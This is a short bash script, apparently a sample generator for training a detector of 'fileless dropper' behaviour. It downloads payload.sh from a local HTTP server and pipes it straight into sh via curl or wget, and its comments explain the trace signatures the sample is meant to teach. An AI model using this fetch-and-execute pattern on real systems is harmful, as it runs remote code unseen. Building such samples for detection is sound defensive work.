#!/bin/bash
# family: dropper
# needs: http
# actors: sh
# (the orchestrating bash, curl, wget and what the script runs are bystanders: they only fetch or are run)
# Fileless dropper: the downloaded script goes straight into a shell, never saved (curl | sh, wget -qO- | sh; not
# sh <(curl), which only a full trace shows: its rows would teach the lean model a plain sh).
RANDOM=$PG_SEED
u="http://127.0.0.1:$PG_HTTP_PORT/payload.sh"
if [ $((RANDOM % 2)) -eq 0 ]; then curl -fsSL "$u" | sh; else wget -qO- "$u" | sh; fi
exit 0
